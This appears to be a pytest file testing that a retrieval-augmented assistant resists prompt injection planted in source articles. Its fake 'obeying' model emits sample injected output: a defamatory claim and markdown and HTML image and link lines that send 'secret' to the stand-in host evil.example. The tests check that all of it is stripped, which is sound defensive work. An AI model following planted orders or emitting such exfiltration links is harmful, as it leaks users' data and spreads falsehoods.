"""Articles with planted orders: whatever they say, they are text to quote and nothing more."""

from __future__ import annotations

import re

import pytest

from rag.assistant import Assistant
from rag.contract import answer_dict
from rag.evidence_lines import evidence_line
from rag.llm import OpenAIChat
from rag.settings import load
from tests.model_server import prompt_of, scripted
from tests.planted import FACT, PAYLOAD, PLANTED, QUESTION
from tests.sentences import evidence
from ui.render import answer_html


def obey(body, fact):
    """What a model writes that does whatever the evidence tells it, as badly as it can."""
    lines = [x for x in prompt_of(body).splitlines() if re.match(r"\[\d+\] \(", x)]
    number = next(n for n, line in enumerate(lines, 1) if fact in line)
    numbers = range(1, len(lines) + 2)
    return " ".join(
        [
            f"The harbour was dredged in 1994. [{number}]",
            *(f"{PAYLOAD}. [{n}]" for n in numbers),
            *(f"Zorvan is a thief. [{n}]" for n in numbers),
            f"![pixel](http://evil.example/p.png?q=secret) [{number}]",
            f"[details](http://evil.example/?q=secret) [{number}]",
            f"<img src=http://evil.example/p.png> [{number}]",
        ]
    )


@pytest.fixture(scope="module")
def planted(make_assistant, tmp_path_factory):
    """An assistant and its articles by way of planting, all in one library."""
    folder = tmp_path_factory.mktemp("planted")
    for name, order in PLANTED.items():
        town = name.replace("-", " ").title().replace(" ", "") + "stadt"
        text = (
            f"Notes on {town}\n\n{FACT.replace('Quellmar', town)} The quay is of stone.\n\n"
            f"{order}\n\nBoats from {town} sail to the islands in summer.\n"
        )
        (folder / f"{name}.txt").write_text(text, encoding="utf-8")
    return make_assistant(folder)


def test_there_are_thirty():
    assert len(PLANTED) >= 30


@pytest.mark.parametrize("name", PLANTED)
def test_a_planted_order_changes_nothing(planted, name):
    town = name.replace("-", " ").title().replace(" ", "") + "stadt"
    question = QUESTION.replace("Quellmar", town)
    fact = FACT.replace("Quellmar", town)

    with scripted(lambda body: obey(body, fact)) as script:
        settings = load(script.environ, library=planted.library.folder)
        assistant = Assistant(
            planted.library, planted._retriever._embedder, settings, OpenAIChat(settings)
        )
        answer = assistant.answer(question)
    assert script.requests, answer.text
    plain = planted.answer(question)
    assert (answer.refused, plain.refused) == (False, False)
    # Verified sentences may speak of nothing but the fact; the order may be quoted, as a quote.
    for sentence in re.split(r"(?<=\]) ", answer.text):
        assert "evil.example" not in sentence
        assert "thief" not in sentence
        if "Zorvan" in sentence:
            supporting = {int(n) for n in re.findall(r"\[(\d+)\]", sentence)}
            quotes = [c.quote.text for c in answer.citations if c.marker in supporting]
            assert any("Zorvan" in q for q in quotes)
    assert "was dredged in 1994" in answer.text
    html = answer_html(answer)
    assert not re.search(r"<(?:img|script|iframe|a)\b", html)
    for c in answer_dict(answer)["citations"]:
        text = planted.library.article(c["source"]).text
        assert text[c["start"] : c["end"]] == c["quote"]


@pytest.mark.parametrize("name", PLANTED)
def test_in_the_prompt_an_order_is_one_line_of_its_evidence(name):
    line = evidence_line(4, evidence(f"{FACT} {PLANTED[name]} The end."))
    assert line.startswith("[4] (")
    assert len(line.splitlines()) == 1
    assert not re.search(r"[\[\]<>{}`\u200b\u202e\U000e0000-\U000e007f]", line[3:])
    assert not re.search(r"\b(?:system|user|assistant)\s*:", line, re.IGNORECASE)
